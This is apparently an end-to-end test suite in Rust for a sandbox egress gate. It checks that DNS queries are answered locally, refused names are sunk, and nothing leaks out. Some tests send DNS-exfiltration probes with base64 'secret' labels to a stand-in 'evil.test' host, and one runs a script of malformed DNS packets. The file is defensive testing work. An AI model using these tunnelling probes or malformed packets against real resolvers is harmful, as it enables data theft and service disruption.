//! Names: every question is answered by the gate, as the policy says, and none leaves.

use std::path::Path;

use e2e::{Arrivals, Dns, ORIGIN_IPV4, Origin, OriginConfig, Reply, World, dig};
use serde_json::{Value, json};

use crate::support::{allowing, allowing_api, curl, one_line, python, script};

/// Addresses that a workload may ask, whether somebody is there or not: `ORIGIN_IPV4` has a name
/// server that would answer.
const SERVERS: [&str; 7] =
    ["192.0.2.53", "10.77.0.2", "127.0.0.53", "127.0.0.11", "2001:db8::53", "fd77::2", "::1"];
const TRANSPORTS: [&str; 2] = ["+notcp", "+tcp"];

/// A world with a name server that knows `api.test` and `evil.test`, and counts.
fn world_with_names(test: &str) -> (World, Origin, Dns) {
    let world = World::new(test);
    let origin = Origin::echo(&world);
    let dns = Dns::start(&world, &[("api.test", ORIGIN_IPV4.into()), ("evil.test", ORIGIN_IPV4.into())]);
    (world, origin, dns)
}

#[track_caller]
fn assert_nothing_left(world: &World, dns: &Dns) {
    assert_eq!(dns.questions(), Vec::<String>::new());
    assert_eq!(world.arrivals(), Arrivals::default());
}

#[test]
fn d01_allowed_name_has_a_synthetic_address_whoever_is_asked() {
    let (world, origin, dns) = world_with_names("d01");
    let found = [("api.test:443", origin.address()), ("other.test:443", origin.address())];
    let gate = world.gate(&allowing(&world, &found)).attach();
    let address = |kind: &str, name: &str, server: &str, transport: &str| {
        let answer = dig(&gate, &[transport, &format!("@{server}"), name, kind]);
        answer.assert_is("NOERROR", 1);
        let ttl: u32 = answer.records[0].split(' ').nth(1).unwrap().parse().unwrap();
        assert!(ttl <= 60, "{answer:?}");
        answer.data().to_owned()
    };
    let first = ["A", "AAAA"].map(|kind| address(kind, "api.test", SERVERS[0], "+notcp"));
    assert!(first[0].starts_with("198.18.") || first[0].starts_with("198.19."), "{first:?}");
    assert!(first[1].starts_with("fd"), "{first:?}");
    for server in SERVERS {
        for transport in TRANSPORTS {
            let again = ["A", "AAAA"].map(|kind| address(kind, "api.test", server, transport));
            assert_eq!(again, first, "{server} {transport}");
        }
    }
    let other = ["A", "AAAA"].map(|kind| address(kind, "other.test", SERVERS[1], "+tcp"));
    assert!(first.iter().zip(&other).all(|(first, other)| first != other), "{first:?} {other:?}");
    assert_nothing_left(&world, &dns);

    // The address leads somewhere, by both families.
    for family in ["-4", "-6"] {
        curl(&gate, &[family, "https://api.test/"]).assert_success();
    }
    assert_eq!(origin.requests().len(), 2);
    assert_eq!((dns.questions().len(), world.arrivals().udp), (0, 0));
}

#[test]
fn d02_refused_name_has_the_sink_address_which_explains_itself() {
    let (world, origin, dns) = world_with_names("d02");
    let policy = allowing_api(&world, &origin) + "[dns]\nsearch = [\"corp.test\"]\n";
    let mut gate = world.gate(&policy).attach();
    let allowed = dig(&gate, &["@192.0.2.53", "api.test", "A"]);
    for kind in ["A", "AAAA"] {
        let sink = dig(&gate, &["@192.0.2.53", "evil.test", kind]);
        sink.assert_is("NOERROR", 1);
        assert_ne!(sink.data(), allowed.data());
        for server in SERVERS {
            let other = dig(&gate, &[&format!("@{server}"), "+tcp", "more.evil.test", kind]);
            assert_eq!(other.data(), sink.data(), "{server}");
        }
    }
    for hidden in ["intranet", "evil.test.corp.test", "9.2.0.192.in-addr.arpa"] {
        dig(&gate, &["@192.0.2.53", hidden, "A"]).assert_is("NXDOMAIN", 0);
    }
    let name = |name: &str| [("kind", json!("dns")), ("host", json!(name))];
    let line = one_line(&mut gate, &name("evil.test"));
    assert_eq!((&line["verdict"], &line["reason"]), (&json!("refused"), &json!("not_in_allowed_hosts")));

    for (number, (url, family)) in
        [("https://evil.test/a", "-4"), ("https://evil.test/b", "-6"), ("http://evil.test/c", "-4")]
            .into_iter()
            .enumerate()
    {
        let outcome = curl(&gate, &[family, "-w", "\n%{http_code}", url]);
        let (body, status) = outcome.assert_success().stdout.rsplit_once('\n').unwrap();
        let body: Value = serde_json::from_str(body).unwrap();
        assert_eq!(status, "403", "{outcome:?}");
        assert_eq!(
            (&body["error"], &body["reason"]),
            (&json!("policy_denied"), &json!("not_in_allowed_hosts"))
        );
        let path = format!("/{}", ["a", "b", "c"][number]);
        let wanted = [("kind", json!("exchange")), ("host", json!("evil.test")), ("path", json!(path))];
        let line = one_line(&mut gate, &wanted);
        assert_eq!((&line["verdict"], &line["status"]), (&json!("refused"), &json!(403)));
    }
    // What is neither HTTP nor TLS is reset, not left hanging.
    let opaque = "
import json, socket
s = socket.create_connection(('evil.test', 5432), 10)
s.sendall(bytes((0, 0, 0, 8, 4, 210, 22, 47)))
try: print(json.dumps(s.recv(9).decode()))
except ConnectionResetError: print(json.dumps('reset'))
";
    assert_eq!(python(gate.job(script(opaque, &[]))), "reset");
    one_line(&mut gate, &[("kind", json!("flow")), ("reason", json!("opaque_flow"))]);
    assert_eq!(origin.connections_seen().len(), 0);
    assert_nothing_left(&world, &dns);
}

#[test]
fn d02_refused_name_does_not_exist_where_the_policy_prefers_that() {
    let (world, origin, dns) = world_with_names("d02-nxdomain");
    let policy = allowing_api(&world, &origin) + "[dns]\nrefused = \"nxdomain\"\n";
    let mut gate = world.gate(&policy).attach();
    for kind in ["A", "AAAA", "TXT"] {
        dig(&gate, &["@192.0.2.53", "evil.test", kind]).assert_is("NXDOMAIN", 0);
    }
    assert_eq!(curl(&gate, &["https://evil.test/"]).code(), 6);
    one_line(&mut gate, &[("kind", json!("dns")), ("host", json!("evil.test"))]);
    curl(&gate, &["https://api.test/"]).assert_success();
    assert_eq!(dns.questions().len(), 0);
}

#[test]
fn d05_other_types_have_no_data() {
    let (world, origin, dns) = world_with_names("d05");
    let gate = world.gate(&allowing_api(&world, &origin)).attach();
    let kinds = ["TXT", "MX", "HTTPS", "SVCB", "SRV", "NS", "SOA", "CAA", "CNAME", "NULL", "TYPE65300"];
    for kind in kinds {
        for transport in TRANSPORTS {
            dig(&gate, &[transport, "@192.0.2.53", "api.test", kind]).assert_is("NOERROR", 0);
        }
        let refused = dig(&gate, &["@192.0.2.53", "c2VjcmV0.evil.test", kind]);
        assert_eq!(refused.records, Vec::<String>::new(), "{kind}");
    }
    assert_nothing_left(&world, &dns);
}

#[test]
fn d06_case_and_a_last_dot_make_no_difference() {
    let (world, origin, dns) = world_with_names("d06");
    let mut gate = world.gate(&allowing_api(&world, &origin)).attach();
    for name in ["api.test", "evil.test"] {
        let [lower, upper] = [name.to_owned(), name.to_uppercase()];
        let mixed = name.replace('e', "E").replace('i', "I");
        for kind in ["A", "AAAA"] {
            let plain = dig(&gate, &["@192.0.2.53", &lower, kind]);
            for other in [&upper, &mixed, &format!("{mixed}."), &format!("{lower}.")] {
                let answer = dig(&gate, &["@192.0.2.53", other, kind]);
                assert_eq!(answer.data(), plain.data(), "{other}");
                // Resolvers that randomise case drop an answer to another spelling.
                let asked = format!("{}. ", other.trim_end_matches('.'));
                assert!(answer.records[0].starts_with(&asked), "{answer:?}");
            }
        }
    }
    one_line(&mut gate, &[("kind", json!("dns")), ("host", json!("evil.test"))]);
    curl(&gate, &["https://API.Test./"]).assert_success();
    assert_eq!(origin.only_request().authority, "api.test");
    assert_eq!(dns.questions().len(), 0);
}

/// Sends each message and then a good question by the same socket: what comes before the good
/// question's answer is the answer to the message.
const MALFORMED: &str = r"
import json, socket, struct
HEAD = lambda id, flags=0x0100, qd=1: struct.pack('>6H', id, flags, qd, 0, 0, 0)
NAME = b'\x03api\x04test\x00'
IN_A = struct.pack('>2H', 1, 1)
GOOD = HEAD(999) + NAME + IN_A
messages = {
  'one byte': b'x', 'eleven bytes': HEAD(1)[:11],
  'no question': HEAD(1), 'nothing asked': HEAD(1, qd=0),
  'cut in the name': HEAD(1) + NAME[:6], 'cut after the name': HEAD(1) + NAME,
  'points to itself': HEAD(1) + b'\xc0\x0c' + IN_A, 'points ahead': HEAD(1) + b'\xc0\xff' + IN_A,
  'points in a circle': HEAD(1) + b'\x01a\xc0\x10\xc0\x0c' + IN_A,
  'label of 64': HEAD(1) + b'\x40' + b'a' * 64 + b'\x00' + IN_A,
  'name of 300': HEAD(1) + b'\x3b' .join([b'', *[b'a' * 59] * 5]) + b'\x00' + IN_A,
  'many questions': HEAD(1, qd=65535) + NAME + IN_A, 'two questions': HEAD(1, qd=2) + (NAME + IN_A) * 2,
  'garbage': bytes(range(1, 250)) * 2, 'garbage after': GOOD[:0] + HEAD(1) + NAME + IN_A + b'\xff' * 40,
  'an answer': HEAD(1, 0x8180) + NAME + IN_A, 'an update': HEAD(1, 0x2800) + NAME + IN_A,
  'chaos': HEAD(1) + b'\x07version\x04bind\x00' + struct.pack('>2H', 16, 3),
  'any': HEAD(1) + NAME + struct.pack('>2H', 255, 1), 'transfer': HEAD(1) + NAME + struct.pack('>2H', 252, 1),
  'larger than any question': HEAD(1) + NAME + IN_A + bytes(9000),
}
found = {}
for title, message in messages.items():
    for family, host in ((socket.AF_INET, '192.0.2.53'), (socket.AF_INET6, '2001:db8::53')):
        s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(10)
        s.sendto(message, (host, 53)); s.sendto(GOOD, (host, 53))
        answers = []
        while True:
            answer = s.recv(4096)
            if answer[:2] == GOOD[:2]:
                assert answer[3] & 15 == 0 and answer[7] == 1, answer
                break
            answers.append(answer[3] & 15)
        found.setdefault(title, answers)
        assert found[title] == answers, (title, found[title], answers)
def tcp(*pieces, close=False):
    s = socket.create_connection(('192.0.2.53', 53), 10); s.settimeout(15)
    for piece in pieces: s.sendall(piece)
    if close: s.shutdown(socket.SHUT_WR)
    got = b''
    try:
        while piece := s.recv(4096): got += piece
    except ConnectionResetError: pass
    return len(got)
frame = lambda message: struct.pack('>H', len(message)) + message
found['tcp'] = {
  'no length': tcp(b'\x00', close=True), 'length 0': tcp(frame(b''), close=True),
  'length too large': tcp(b'\xff\xff' + GOOD), 'cut': tcp(frame(GOOD)[:-4], close=True),
  'three at once': tcp(frame(GOOD) * 3, close=True), 'one': tcp(frame(GOOD), close=True),
  'byte by byte': tcp(*(bytes((b,)) for b in frame(GOOD)), close=True),
}
print(json.dumps(found))
";

#[test]
fn d10_malformed_questions_get_formerr_or_nothing() {
    let (world, origin, dns) = world_with_names("d10");
    let mut gate = world.gate(&allowing_api(&world, &origin)).attach();
    let found = python(gate.job(script(MALFORMED, &[])));
    const FORMERR: u64 = 1;
    let expected = [
        ("one byte", json!([])),
        ("eleven bytes", json!([])),
        ("an answer", json!([])),
        // A question that was understood, and is not answered with addresses.
        ("an update", json!([4])),
        ("chaos", json!([5])),
        ("any", json!([0])),
        ("transfer", json!([0])),
    ];
    for (title, answers) in found.as_object().unwrap().iter().filter(|(title, _)| *title != "tcp") {
        match expected.iter().find(|(expected, _)| expected == title) {
            Some((_, expected)) => assert_eq!(answers, expected, "{title}"),
            None => assert!(*answers == json!([]) || *answers == json!([FORMERR]), "{title}: {answers}"),
        }
    }
    let tcp = &found["tcp"];
    for title in ["no length", "length 0", "length too large", "cut"] {
        assert_eq!(tcp[title], 0, "{title}");
    }
    let one = tcp["one"].as_u64().unwrap();
    assert!(one > 20);
    assert_eq!((tcp["three at once"].as_u64(), tcp["byte by byte"].as_u64()), (Some(3 * one), Some(one)));
    assert!(Path::new("/proc").join(gate.running().pid().to_string()).exists());
    dig(&gate, &["@192.0.2.53", "api.test"]).assert_is("NOERROR", 1);
    assert_nothing_left(&world, &dns);
}

#[test]
fn no_question_leaves_though_the_gate_has_a_name_server() {
    let world = World::new("own-names");
    let origin = Origin::start_with(&world, OriginConfig { port: 443, ..OriginConfig::default() }, |_| {
        Reply::text("hello")
    });
    let dns = Dns::start(&world, &[("www.api.test", ORIGIN_IPV4.into())]);
    // With a wildcard every label would be a byte out, were names resolved when asked.
    let policy = format!(
        "version = 1\nallowed_hosts = [\"*.api.test\"]\n{}dns = [\"{ORIGIN_IPV4}\"]\nallow_ranges = [\"10.77.0.0/24\"]\n",
        world.upstream(&[])
    );
    let gate = world.gate(&policy).attach();
    for number in 0..5 {
        for (server, transport) in [("10.77.0.2", "+notcp"), ("192.0.2.53", "+tcp")] {
            let name = format!("c2VjcmV0LXBhcnQt{number}.api.test");
            dig(&gate, &[transport, &format!("@{server}"), &name]).assert_is("NOERROR", 1);
            dig(&gate, &[transport, &format!("@{server}"), "evil.test"]).assert_is("NOERROR", 1);
        }
    }
    assert_nothing_left(&world, &dns);
    let refused = curl(&gate, &["-o", "/dev/null", "-w", "%{http_code}", "https://secret.evil.test/"]);
    refused.assert_success().assert_stdout("403");
    assert_nothing_left(&world, &dns);

    curl(&gate, &["https://www.api.test/"]).assert_success().assert_stdout("hello");
    let questions = dns.questions();
    assert!(!questions.is_empty(), "the gate resolves what it dials");
    assert!(questions.iter().all(|question| question.starts_with("www.api.test ")), "{questions:?}");
    assert_eq!(origin.requests().len(), 1);
}

#[test]
fn dockers_resolver_is_taken_on_every_port() {
    let (world, origin, dns) = world_with_names("docker-resolver");
    let mut gate = world.gate(&allowing_api(&world, &origin)).attach();
    let text = "
import json, socket
def attempt(kind, port):
    s = socket.socket(socket.AF_INET, kind); s.settimeout(5)
    try:
        s.connect(('127.0.0.11', port)); s.send(b'hello'); s.recv(9)
        return 'answered'
    except (ConnectionResetError, ConnectionRefusedError): return 'refused'
    except OSError as error: return str(error)
print(json.dumps([attempt(kind, port) for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM) for port in (443, 41234)]))
";
    assert_eq!(python(gate.job(script(text, &[]))), json!(["refused", "refused", "refused", "refused"]));
    for port in [443, 41234] {
        let destination = json!(format!("127.0.0.11:{port}"));
        for protocol in ["tcp", "udp"] {
            one_line(
                &mut gate,
                &[("original_destination", destination.clone()), ("protocol", json!(protocol))],
            );
        }
    }
    assert_nothing_left(&world, &dns);
}
